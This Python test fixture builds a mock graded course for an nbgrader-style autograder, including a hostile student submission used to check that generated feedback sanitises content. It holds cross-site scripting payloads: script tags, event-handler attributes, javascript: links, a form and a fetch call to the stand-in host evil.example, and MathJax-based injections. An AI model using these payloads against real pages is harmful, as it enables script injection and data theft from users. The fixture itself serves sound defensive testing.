"""A small graded class: a good student, a bad one, and one who writes scripts and formulas."""

from __future__ import annotations

import shutil
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path
from typing import Any

import tiny_course as tiny
from fake_engine import FakeEngine
from grading.autograde.coordinator import autograde
from grading.autograde.course import open_course
from grading.autograde.pool import grade_payload
from grading.autograde.settings import Options
from grading.feedback.generate import generate_feedback

SCRIPT = "document.title = 'taken over'; fetch('http://evil.example/x'); alert(1)"
MEMO = r"""# Memo

The interval is $\hat p \pm z \sqrt{\hat p (1 - \hat p) / n}$, and

$$
\begin{aligned}
\text{转化率} &= \frac{\text{orders}}{\text{visits}} \\
E[x] &= \sum_{i=1}^{n} x_i
\end{aligned}
$$

A formula wider than a phone:

$$x_1 + x_2 + x_3 + x_4 + x_5 + x_6 + x_7 + x_8 + x_9 + x_{10} + x_{11} + x_{12} + x_{13}$$

It costs $5 to $10.

| channel | visits | orders | rate | margin_cny | comment_of_the_operations_manager |
|---|---|---|---|---|---|
| mini_program | 10000 | 450 | 0.045 | 12345.67 | a_word_without_any_space_in_it |
"""
HOSTILE = rf"""# test_double
<script>{SCRIPT}</script>
<img src="x" onerror="{SCRIPT}">
<svg onload="{SCRIPT}"><script>{SCRIPT}</script></svg>
<iframe srcdoc="<script>parent.document.title = 'taken over'</script>"></iframe>
<a href="javascript:{SCRIPT}" id="act">click me</a> [me too](javascript:alert(1))
<input id="test_double" class="score" autofocus onfocus="{SCRIPT}">
<form action="http://evil.example/x"><button id="send">send</button></form>
![pixel](http://evil.example/x.png) <style>body {{ display: none }}</style>

$\text{{<img src=x onerror=alert(1)>}}$ $\href{{javascript:alert(1)}}{{\text{{a link}}}}$

$$\text{{</mtext></math><script>{SCRIPT}</script>}}$$
"""
PUBLISHED = [
    {"text/html": f"<script>{SCRIPT}</script><b onclick='{SCRIPT}'>bold</b>"},
    {"image/svg+xml": f"<svg xmlns='http://www.w3.org/2000/svg' onload='{SCRIPT}'></svg>"},
    {"text/latex": r"$\text{<img src=x onerror=alert(1)>} \frac{1}{2}$"},
    {"application/javascript": SCRIPT, "text/plain": "js"},
    {"text/markdown": f"<img src=x onerror='{SCRIPT}'> $y$"},
]
LATE = (
    "c.AssignLatePenalties.plugin_class = 'grading.classroom.late.PercentADay'\n"
    "c.PercentADay.percent = 10\n"
)


class _Engine(FakeEngine):
    """Adds outputs to the cell that asks for them, as a student's kernel may."""

    def _cell(self, cell: Any, namespace: dict[str, Any], number: int) -> Any:
        result = super()._cell(cell, namespace, number)
        if "publish" not in cell.source:
            return result
        outputs = [
            {"output_type": "display_data", "data": data, "metadata": {}} for data in PUBLISHED
        ]
        return replace(result, outputs=tuple(outputs))


class _Here:
    """Grades in this process."""

    def run(self, jobs: Any) -> Iterator[Any]:
        for job in jobs:
            yield job, grade_payload(job.payload, _Engine())[0]


def make_class(template: Path, root: Path) -> Path:
    """Copy a course, hand in, grade, and return the course folder with its feedback."""
    shutil.copytree(template, root)
    with (root / "nbgrader_config.py").open("a") as config:
        config.write(LATE)
    tiny.submit(root, "ada", tiny.answered(root, {**tiny.RIGHT, "memo": MEMO}))
    late = tiny.submit(
        root, "ben", tiny.answered(root, {**tiny.RIGHT, "spread": tiny.WRONG["spread"]})
    )
    (late / "timestamp.txt").write_text("2025-03-04 10:00:00 UTC")
    tiny.submit(root, "cyd", tiny.released(root))
    document = tiny.answered(root, {**tiny.WRONG, "memo": HOSTILE})
    own = {"cell_type": "code", "id": "own", "metadata": {}, "source": "publish = True"}
    document["cells"].append({**own, "outputs": [], "execution_count": None})
    tiny.submit(root, "eve", document)
    course = open_course(root)
    from nbgrader.api import Gradebook

    with Gradebook(str(course.coursedir.db_url)) as gradebook:
        gradebook.update_or_create_assignment(tiny.ASSIGNMENT, duedate="2025-03-02 15:00:00")
    autograde(course, tiny.ASSIGNMENT, Options(), scheduler=_Here())
    generate_feedback(course, tiny.ASSIGNMENT, ["ada", "ben", "cyd", "eve"])
    return root
